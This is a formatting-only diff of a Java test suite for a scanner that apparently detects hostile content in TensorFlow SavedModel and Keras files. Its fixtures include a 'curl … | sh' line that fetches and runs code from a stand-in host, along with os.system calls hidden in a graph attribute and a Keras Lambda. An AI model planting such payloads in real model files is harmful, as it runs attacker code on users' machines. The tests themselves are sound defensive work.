@@ -124,8 +124,11 @@ class SavedModelFormatTest {
     Proto node = node("c", "Const").message(5, attribute("note", "curl http://x.example/a | sh"));
     assertThat(rules(saved(meta(graph(node))))).containsExactly("tensorflow-text");
     Proto collection =
-        new Proto().text(1, "hook").message(2, new Proto().message(2, new Proto().text(1, "os.system('id')")));
-    assertThat(rules(saved(meta(graph()).message(4, collection)))).containsExactly("tensorflow-text");
+        new Proto()
+            .text(1, "hook")
+            .message(2, new Proto().message(2, new Proto().text(1, "os.system('id')")));
+    assertThat(rules(saved(meta(graph()).message(4, collection))))
+        .containsExactly("tensorflow-text");
   }
 
   @ParameterizedTest
@@ -141,7 +144,11 @@ class SavedModelFormatTest {
         new Proto()
             .text(1, "x:0")
             .number(2, 1)
-            .message(3, new Proto().message(2, new Proto().number(1, -1)).message(2, new Proto().number(1, 30)));
+            .message(
+                3,
+                new Proto()
+                    .message(2, new Proto().number(1, -1))
+                    .message(2, new Proto().number(1, 30)));
     Proto signature = new Proto().message(1, new Proto().text(1, "x").message(2, info));
     Proto entry = new Proto().text(1, "serving_default").message(2, signature);
     assertThat(saved(meta(graph()).message(5, entry)).facts())
@@ -154,8 +161,7 @@ class SavedModelFormatTest {
     String lambda =
         "{\"class_name\":\"Lambda\",\"config\":{\"name\":\"l\",\"function_type\":\"lambda\","
             + "\"function\":\"__import__('os').system('id')\"}}";
-    byte[] metadata =
-        new Proto().message(1, new Proto().number(2, 1).text(5, lambda)).toBytes();
+    byte[] metadata = new Proto().message(1, new Proto().number(2, 1).text(5, lambda)).toBytes();
     assertThat(Bundle.inspect("keras_metadata.pb", metadata).verdict())
         .isGreaterThanOrEqualTo(Verdict.SUSPICIOUS);
   }
@@ -177,7 +183,9 @@ class SavedModelFormatTest {
     assertThat(Bundle.inspect("variables.data-00000-of-00001", new byte[100]).formats())
         .containsExactly("tensorflow-checkpoint");
     Inspected list =
-        new Bundle().with("checkpoint", "model_checkpoint_path: \"/tmp/ckpt-1\"\n").inspect("checkpoint");
+        new Bundle()
+            .with("checkpoint", "model_checkpoint_path: \"/tmp/ckpt-1\"\n")
+            .inspect("checkpoint");
     assertThat(list.verdict()).isEqualTo(Verdict.CLEAN);
     assertThat(rules(list)).containsExactly("tensorflow-checkpoint-path");
   }
